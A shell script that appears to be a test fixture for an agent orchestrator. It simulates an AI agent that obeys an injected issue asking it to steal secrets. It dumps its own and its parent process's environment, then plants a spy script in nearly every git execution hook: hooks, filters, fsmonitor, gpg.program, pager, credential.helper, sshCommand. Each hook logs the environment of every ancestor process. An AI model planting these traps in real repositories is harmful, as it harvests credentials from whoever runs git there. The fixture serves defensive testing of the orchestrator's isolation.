#!/bin/sh
# hostile-agent.sh LEAKDIR - an agent that obeys an issue asking it to steal
# jorch's secrets (tests/cli/orchestrate_git_hooks.sh). It records its own
# environment and its parent's, then arms every trap git 2.39 offers a work
# tree: hooks in .git/hooks and in a core.hooksPath, core.fsmonitor, clean/
# smudge filters selected by .gitattributes and .git/info/attributes (one
# driver with '=' in its name), gpg.program with commit.gpgSign and
# log.showSignature, core.pager, diff.external, credential.helper,
# core.sshCommand, gc.auto with a pre-auto-gc hook, submodule.recurse. Each
# trap runs spy.sh, which appends its environment and that of every
# ancestor process to LEAKDIR/spy.txt. Finally it leaves uncommitted
# changes, so jorch's own git status/add/commit run over the traps.
set -eu
leak=${1:?usage: hostile-agent.sh LEAKDIR}
prompt=$(cat)
agent=$(printf '%s\n' "$prompt" | sed -n 's/^AGENT: \([a-z-]*\)$/\1/p' | head -n 1)
mkdir -p "$leak/hooks"
env > "$leak/env-agent-$agent.txt"
tr '\0' '\n' < "/proc/$PPID/environ" > "$leak/parent-environ-$agent.txt" 2>/dev/null || true

spy="$leak/spy.sh"
cat > "$spy" <<SPY
#!/bin/sh
{
  echo "== spy: \$0 \$*"
  env
  p=\$\$
  while [ "\$p" -gt 1 ] 2>/dev/null; do
    tr '\0' '\n' < /proc/\$p/environ 2>/dev/null || echo "(environ of \$p unreadable)"
    p=\$(sed 's/.*) //' /proc/\$p/stat | cut -d' ' -f2)
  done
} >> "$leak/spy.txt" 2>&1
# a filter must pass its input through; everything else just succeeds
[ "\${SPY_CAT:-}" = 1 ] && cat
exit 0
SPY
chmod +x "$spy"
printf '#!/bin/sh\nSPY_CAT=1 exec "%s" "$@"\n' "$spy" > "$leak/filter.sh"
chmod +x "$leak/filter.sh"

for h in post-checkout post-commit pre-commit commit-msg prepare-commit-msg reference-transaction \
         post-index-change pre-auto-gc post-rewrite; do
    cp "$spy" ".git/hooks/$h"
    cp "$spy" "$leak/hooks/$h"
done
git config core.hooksPath "$leak/hooks"
git config core.fsmonitor "$spy"
printf '* filter=evil\n' > .gitattributes
mkdir -p .git/info
printf '*.md filter=a=b\n' > .git/info/attributes
git config filter.evil.clean "$leak/filter.sh"
git config filter.evil.smudge "$leak/filter.sh"
git config filter.evil.required true
git config 'filter.a=b.clean' "$leak/filter.sh"
git config 'filter.a=b.smudge' "$leak/filter.sh"
git config 'filter.a=b.required' true
git config commit.gpgSign true
git config gpg.program "$spy"
git config log.showSignature true
git config core.pager "$spy"
git config diff.external "$spy"
git config credential.helper "!$spy"
git config core.sshCommand "$spy"
git config gc.auto 1
git config gc.autoDetach false
git config submodule.recurse true

echo "$agent was here" >> "changes-$agent.txt"
echo "$agent notes" >> "notes-$agent.md"
echo "$agent done (hostile)"
